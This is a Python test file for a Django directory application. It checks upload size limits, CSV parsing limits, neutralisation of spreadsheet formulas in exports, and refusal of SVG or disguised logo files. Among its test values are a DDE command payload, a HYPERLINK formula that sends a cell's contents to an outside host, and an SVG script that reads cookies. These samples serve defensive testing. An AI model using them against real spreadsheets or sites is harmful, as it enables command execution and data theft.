"""Uploads and files: size limits, safe parsing, CSV exports no spreadsheet runs, logos.

The importers' refusals of what is not a UTF-8 table (encodings, binary files, broken
quoting) are tested in tests/directory/test_import_directory.py; here, what concerns an
attacker: a file too large, a field too large, a formula in an exported cell, a logo
that is a script.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from aiguillage.core.spreadsheet import safe_cell
from aiguillage.core.validators import LOGO_MAX_BYTES, validate_logo
from aiguillage.directory.exports.lieux import write_lieux
from aiguillage.directory.imports.directory import import_directory
from aiguillage.directory.imports.report import UnreadableFile
from aiguillage.directory.models import Structure
from tests.accounts.factories import MembershipFactory
from tests.core.factories import NetworkFactory
from tests.directory.test_import_directory import LIEUX_COLUMNS, lieu, lieux_file, table

IMPORT_URL = "/r/depot/annuaire/import/"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 64
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'


@pytest.fixture
def coordinator(db, settings, tmp_path):
    settings.VAR_DIR = tmp_path  # the pending uploads go to VAR_DIR/imports
    membership = MembershipFactory(network=NetworkFactory(slug="depot"), coordinator=True)
    client = Client()
    client.force_login(membership.user)
    return client


def pending_files(settings) -> list[Path]:
    return list((Path(settings.VAR_DIR) / "imports").glob("*"))


class TestImportSize:
    def test_a_file_over_the_limit_is_refused_with_the_limit_in_words(self, coordinator, settings):
        settings.IMPORT_MAX_BYTES = 1000
        upload = SimpleUploadedFile("lieux.csv", b"id,nom\n" + b"x" * 2000)
        response = coordinator.post(IMPORT_URL, {"file": upload, "file_format": "auto"})
        assert response.status_code == 200
        assert "Le fichier dépasse 1000" in response.text  # "1000 octets"
        assert "au plus" in response.text  # the help text says the limit before
        assert pending_files(settings) == []

    def test_a_body_far_over_the_limit_is_refused_before_it_is_read(self, coordinator, settings):
        settings.IMPORT_MAX_BYTES = 1000
        upload = SimpleUploadedFile("lieux.csv", b"x" * (200 * 1024))
        response = coordinator.post(IMPORT_URL, {"file": upload, "file_format": "auto"})
        assert response.status_code == 400
        assert "trop volumineux" in response.text  # the 400 page's example
        assert not pending_files(settings)

    def test_a_file_within_the_limit_is_previewed(self, coordinator, settings, tmp_path):
        settings.IMPORT_MAX_BYTES = 100_000
        text = table(LIEUX_COLUMNS, lieu("l1", "Médiathèque"))
        upload = SimpleUploadedFile("lieux.csv", text.encode())
        response = coordinator.post(IMPORT_URL, {"file": upload, "file_format": "auto"})
        assert response.status_code == 200
        assert "Aperçu de l" in response.text
        assert len(pending_files(settings)) == 1

    def test_django_keeps_its_own_limits_on_form_fields(self, settings):
        from django.conf import settings as live

        assert live.DATA_UPLOAD_MAX_MEMORY_SIZE <= 5 * 1024 * 1024
        assert live.DATA_UPLOAD_MAX_NUMBER_FIELDS <= 1000
        assert live.FILE_UPLOAD_HANDLERS[0] == "aiguillage.core.uploads.BodySizeLimitUploadHandler"


@pytest.mark.django_db
def test_a_field_larger_than_the_csv_limit_stops_the_import_and_writes_nothing(tmp_path):
    huge = "x" * 1_100_000  # csv.field_size_limit is 1,000,000 (imports/tabular.py)
    path = lieux_file(tmp_path, lieu("l1", "Médiathèque"), lieu("l2", huge))
    with pytest.raises(UnreadableFile, match=r"not valid CSV.*field larger than field limit"):
        import_directory(path)
    assert not Structure.objects.exists()


class TestFormulasInCsvExports:
    @pytest.mark.parametrize(
        "value",
        ['=HYPERLINK("http://x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
    )
    def test_a_cell_a_spreadsheet_would_run_is_made_text(self, value):
        assert safe_cell(value) == "'" + value

    @pytest.mark.parametrize("value", ["-3.5", "+33467880000", "43,73", "Médiathèque", "", None])
    def test_numbers_and_text_are_left_as_they_are(self, value):
        assert safe_cell(value) == ("" if value is None else value)

    @pytest.mark.django_db
    def test_the_lieux_export_neutralises_an_imported_name(self, tmp_path):
        """A name imported from an open-data file reaches a coordinator's spreadsheet:
        it is exported as text; the coordinates and the phone stay numbers."""
        name = '=HYPERLINK("https://exemple.org/?"&A1,"Médiathèque")'
        path = lieux_file(
            tmp_path, lieu("l1", name, latitude=43.73, longitude=-0.5, telephone="+33467880000")
        )
        assert import_directory(path, source="piege").created == 1
        out = io.StringIO(newline="")
        write_lieux(structures=Structure.objects.all(), sites=[], out=out)
        (row,) = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
        assert row["nom"] == "'" + name
        assert row["longitude"] == "-0.5"
        assert row["telephone"] == "+33467880000"


class TestLogo:
    @pytest.mark.parametrize(
        ("name", "content"), [("logo.png", PNG), ("logo.jpg", JPEG), ("logo.webp", WEBP)]
    )
    def test_a_raster_image_is_accepted(self, name, content):
        validate_logo(SimpleUploadedFile(name, content))

    def test_svg_is_refused_since_it_can_carry_a_script(self):
        with pytest.raises(ValidationError, match="SVG n'est pas accepté") as error:
            validate_logo(SimpleUploadedFile("logo.svg", SVG))
        assert error.value.code == "logo_format"

    def test_a_script_named_as_an_image_is_refused(self):
        with pytest.raises(ValidationError) as error:
            validate_logo(SimpleUploadedFile("logo.png", SVG))
        assert error.value.code == "logo_content"

    def test_a_webp_must_say_webp(self):
        with pytest.raises(ValidationError):
            validate_logo(SimpleUploadedFile("logo.webp", b"RIFF\x24\x00\x00\x00WAVEfmt "))

    def test_too_heavy(self):
        heavy = PNG + b"\x00" * LOGO_MAX_BYTES
        with pytest.raises(ValidationError) as error:
            validate_logo(SimpleUploadedFile("logo.png", heavy))
        assert error.value.code == "logo_size"

    @pytest.mark.django_db
    def test_the_network_model_applies_it(self):
        network = NetworkFactory.build(slug="logo", logo=SimpleUploadedFile("logo.svg", SVG))
        with pytest.raises(ValidationError) as error:
            network.full_clean()
        assert "logo" in error.value.message_dict
